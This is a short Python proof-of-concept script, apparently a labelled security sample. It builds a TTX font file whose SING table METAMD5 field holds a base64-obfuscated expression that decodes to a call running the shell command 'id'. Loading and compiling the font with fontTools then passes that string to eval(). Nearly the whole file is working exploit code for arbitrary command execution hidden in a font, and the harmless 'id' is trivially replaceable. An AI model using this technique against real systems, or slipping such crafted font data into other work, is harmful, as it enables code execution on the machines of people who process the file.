# class: second-stage | technique: a TTX (font XML) document carries a base64-decoded expression as the SING table's METAMD5 value; fontTools' SING compile() passes that string to eval() | effect: runs `id`
import base64
import io

from fontTools.ttLib import TTFont

DIGEST = base64.b64decode("X19pbXBvcnRfXygncG9zaXgnKS5zeXN0ZW0oJ2lkJyk=").decode()

ttx = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<ttFont ttLibVersion="4.38">\n'
    "  <SING>\n"
    '    <tableVersionMajor value="1"/>\n'
    '    <tableVersionMinor value="1"/>\n'
    '    <glyphletVersion value="1"/>\n'
    '    <permissions value="0"/>\n'
    '    <mainGID value="0"/>\n'
    '    <unitsPerEm value="1000"/>\n'
    '    <vertAdvance value="0"/>\n'
    '    <vertOrigin value="0"/>\n'
    '    <uniqueName value="demo"/>\n'
    f'    <METAMD5 value="{DIGEST}"/>\n'
    '    <baseGlyphName value="a"/>\n'
    "  </SING>\n"
    "</ttFont>\n"
)
with open("glyphlet.ttx", "w") as fh:
    fh.write(ttx)

font = TTFont()
font.importXML("glyphlet.ttx")
try:
    font["SING"].compile(font)
except Exception as exc:
    print("compile stopped:", type(exc).__name__)
